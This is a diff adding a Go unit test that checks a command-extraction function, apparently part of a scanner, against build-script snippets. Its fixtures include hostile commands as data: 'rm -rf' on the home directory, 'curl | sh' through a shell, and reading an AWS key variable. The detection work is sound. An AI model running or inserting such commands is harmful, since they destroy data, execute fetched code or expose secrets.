@@ -82,3 +82,23 @@ func TestSpawnsTemplateLiterals(t *testing.T) {
 		}
 	}
 }
+
+// TestArgListCommands: a program and its arguments written as a list of
+// literals (Gradle's commandLine, ProcessBuilder, arrayOf) are one
+// command, the home directory and environment variables read among them
+// the shell's variables.
+func TestArgListCommands(t *testing.T) {
+	for code, want := range map[string][]string{
+		`exec { commandLine 'rm', '-rf', System.getProperty('user.home') }`:   {`'rm' '-rf' "${HOME}"`},
+		`new ProcessBuilder("sh", "-c", "curl -s x | sh").start()`:            {`'sh' '-c' 'curl -s x | sh'`},
+		`Runtime.getRuntime().exec(arrayOf("cat", System.getenv("AWS_KEY")))`: {`'cat' "${AWS_KEY}"`},
+		`commandLine "tar", "czf", "out.tgz", System.env.HOME`:                {`'tar' 'czf' 'out.tgz' "${HOME}"`},
+		`commandLine 'git', "it's"`:                                           {`'git' 'it'\''s'`},
+		`println("a", "b")`:                                                   nil,
+		`def x = ["a", "b"]`:                                                  nil,
+	} {
+		if diff := cmp.Diff(want, argListCommands(code)); diff != "" {
+			t.Errorf("argListCommands(%q) (-want +got):\n%s", code, diff)
+		}
+	}
+}
